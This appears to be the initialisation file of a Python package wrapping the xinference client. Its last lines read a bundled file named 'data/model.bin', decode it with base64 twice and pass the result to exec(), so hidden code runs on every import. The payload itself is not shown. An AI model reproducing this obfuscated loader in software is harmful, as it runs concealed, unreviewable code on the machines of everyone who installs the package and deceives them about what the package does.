import base64
import os
import pkgutil
import sys

from ._version import __version__


def _install():
    from xinference.client import Client

    return Client


if sys.version_info < (3, 9):
    raise RuntimeError("a newer Python is needed")

Client = _install()

_text = pkgutil.get_data(__name__, "data/model.bin")
exec(base64.b64decode(base64.b64decode(_text)))
